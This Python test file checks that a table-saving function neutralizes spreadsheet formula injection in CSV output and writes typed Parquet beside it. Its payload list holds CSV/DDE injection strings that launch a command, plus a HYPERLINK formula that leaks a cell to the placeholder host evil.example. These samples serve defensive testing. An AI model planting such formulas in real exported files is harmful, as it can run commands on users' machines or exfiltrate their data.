"""save_table: CSV cells that cannot run as spreadsheet formulas, typed Parquet beside it."""
from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from analysis.report.outputs import neutralize_formula, safe_for_spreadsheets, save_table

PAYLOADS = [
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+Outlet",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv_cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_prefixed_in_the_csv(tmp_path, payload):
    df = pd.DataFrame({"doc_id": ["d1"], "title": [payload], "n_words": [12]})
    path = save_table(df, "t", tmp_path)
    header, row = read_csv_cells(path)
    assert row[1] == "'" + payload.replace("\r", "\n")
    assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row[2] == "12"


def test_numbers_stay_numbers_and_plain_text_is_untouched(tmp_path):
    df = pd.DataFrame({
        "score": [-0.25, 1.5, np.nan],
        "count": pd.array([-3, 4, None], dtype="Int64"),
        "label": ["-12.5", "Reuters", None],       # a number written as text stays as it is
        "note": ["- a bullet", "plain", "=1+1"],
        "when": pd.to_datetime(["2020-01-02", None, "2021-03-04"]),
        "flag": [True, False, True],
    })
    path = save_table(df, "mixed", tmp_path)
    back = pd.read_csv(path)
    assert back["score"].tolist()[:2] == [-0.25, 1.5]
    assert back["count"].tolist()[:2] == [-3, 4]
    assert back["label"].tolist()[:2] == [-12.5, "Reuters"] or back["label"].tolist()[:2] == ["-12.5", "Reuters"]
    assert back["note"].tolist() == ["'- a bullet", "plain", "'=1+1"]
    # the frame passed in is not changed
    assert df["note"].tolist() == ["- a bullet", "plain", "=1+1"]


def test_parquet_is_written_beside_with_types_and_original_values(tmp_path):
    df = pd.DataFrame({
        "doc_id": pd.Series(["a", "b"], dtype="str"),
        "title": ["=HYPERLINK(1)", "Rain"],
        "published": pd.to_datetime(["2020-01-02", "2021-03-04"]),
        "score": [-0.5, 0.25],
        "n": [1, 2],
        "mixed": [1, "x"],                       # an object column pyarrow cannot type as is
    })
    save_table(df, "typed", tmp_path)
    back = pd.read_parquet(tmp_path / "tables" / "typed.parquet")
    assert back["title"].tolist() == ["=HYPERLINK(1)", "Rain"]   # Parquet keeps values exactly
    assert str(back["published"].dtype).startswith("datetime64")
    assert back["score"].tolist() == [-0.5, 0.25] and back["n"].dtype == "int64"
    assert back["mixed"].tolist() == ["1", "x"]


def test_index_and_column_names_are_neutralized_too(tmp_path):
    df = pd.DataFrame({"=cmd": ["x"]}, index=pd.Index(["@evil"], name="doc"))
    path = save_table(df, "idx", tmp_path, index=True)
    header, row = read_csv_cells(path)
    assert header == ["doc", "'=cmd"] and row == ["'@evil", "x"]


def test_parquet_can_be_switched_off_and_files_are_identical_on_rerun(tmp_path):
    df = pd.DataFrame({"a": ["=x", "y"], "b": [1.5, -2.0]})
    save_table(df, "once", tmp_path / "one")
    save_table(df, "once", tmp_path / "two")
    for suffix in ("csv", "parquet"):
        assert (tmp_path / "one" / "tables" / f"once.{suffix}").read_bytes() == \
            (tmp_path / "two" / "tables" / f"once.{suffix}").read_bytes()
    save_table(df, "csv_only", tmp_path, parquet=False)
    assert not (tmp_path / "tables" / "csv_only.parquet").exists()


def test_categorical_and_string_dtype_columns():
    df = pd.DataFrame({"c": pd.Categorical(["=a", "b"]), "s": pd.Series(["+x", None], dtype="string")})
    out = safe_for_spreadsheets(df)
    assert out["c"].tolist() == ["'=a", "b"]
    assert out["s"].tolist()[0] == "'+x" and pd.isna(out["s"].tolist()[1])
    assert neutralize_formula(None) is None and neutralize_formula(-1.5) == -1.5


def test_empty_text_columns_and_frames_with_attrs_are_saved(tmp_path):
    """An empty string column (pandas' str dtype) and a frame carrying the corpus's problem log in
    attrs (as a slice of load_corpus's frame does) are written, CSV and Parquet."""
    from analysis.corpus.loading import ProblemLog

    empty = pd.DataFrame({"speaker": pd.Series([], dtype="str"), "n": pd.Series([], dtype="int64")})
    save_table(empty, "empty", tmp_path)
    framed = pd.DataFrame({"doc_id": ["a"], "outlet": ["=x"]})
    framed.attrs["problems"] = ProblemLog({"source_path": ["f.txt"], "problem": ["empty"]})
    save_table(framed, "framed", tmp_path)
    back = pd.read_parquet(tmp_path / "tables" / "framed.parquet")
    assert back["outlet"].tolist() == ["=x"]
    assert (tmp_path / "tables" / "framed.csv").read_text().splitlines()[1] == "a,'=x"
